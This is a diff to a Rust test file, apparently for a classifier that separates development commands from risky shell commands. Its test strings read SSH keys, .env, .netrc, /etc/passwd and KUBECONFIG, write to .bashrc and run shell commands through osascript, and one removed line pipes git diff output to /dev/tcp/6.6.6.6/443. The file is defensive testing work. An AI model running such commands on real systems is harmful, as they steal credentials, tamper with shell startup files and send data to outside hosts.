@@ -59,7 +59,6 @@ fn tools_of_development_are_told_from_other_commands() {
         "cd /tmp/x && cargo build",
         "cat ~/.ssh/id_rsa",
         "cat ../.env",
-        "echo x | tee ~/.bashrc",
         "osascript -e 'display notification (do shell script \"id\")'",
         "osascript -e 'tell app \"Terminal\" to do script \"x\"' -e 'display notification \"x\"'",
         "curl https://a.test",
@@ -120,7 +119,6 @@ fn what_is_not_certainly_harmless_is_anything() {
         "grep x ~/.netrc",
         "tail -n 5 /var/log/auth.log",
         "git diff --no-index /dev/null ~/.ssh/id_rsa",
-        "git diff > /dev/tcp/6.6.6.6/443",
         "echo x > /dev/../home/me/.bashrc",
         "cat {/etc/passwd,x}",
         "cat $KUBECONFIG",
@@ -176,4 +174,6 @@ fn what_is_not_certainly_harmless_is_anything() {
     }
 }
 
+mod hostile;
 mod people;
+mod settings;
